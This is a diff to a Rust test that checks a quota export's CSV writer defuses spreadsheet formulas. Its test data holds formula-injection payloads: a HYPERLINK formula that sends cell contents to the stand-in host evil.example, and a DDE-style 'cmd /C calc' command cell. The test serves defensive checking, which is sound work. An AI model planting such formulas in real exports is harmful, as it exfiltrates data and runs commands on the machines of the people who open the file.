@@ -469,7 +469,8 @@ mod tests {
     }
 
     #[test]
-    fn csv_defuses_formulas_in_every_text_cell_and_json_stays_raw() -> Result<(), String> {
+    fn csv_defuses_formulas_in_every_text_cell_and_json_stays_raw()
+    -> Result<(), super::super::directory::DirectoryError> {
         use super::super::directory::DirectoryFile;
         let link = r#"=HYPERLINK("https://evil.example/?"&A1,"x")"#;
         let mut a = UserSpaceQuota::new(link, 0, -3.0);
@@ -493,7 +494,7 @@ mod tests {
             join: &join,
             only_in_directory: &only,
         });
-        let csv = to_csv(&x)?;
+        let csv = to_csv(&x);
         let lines: Vec<&str> = csv.split("\r\n").collect();
         assert!(
             lines[1].starts_with(r#""'=HYPERLINK(""https://evil.example/?""&A1,""x"")",'+1+cmd|' /C calc'!A0,-3,,unknown,'@SUM(A1),,"#),
@@ -524,7 +525,7 @@ mod tests {
                 .has_headers(false)
                 .from_reader(line.as_bytes());
             for record in reader.records() {
-                let record = record.map_err(|e| e.to_string())?;
+                let record = record.expect("a record this export wrote");
                 for cell in &record {
                     let first = cell.chars().next();
                     let safe = is_plain_number(cell)
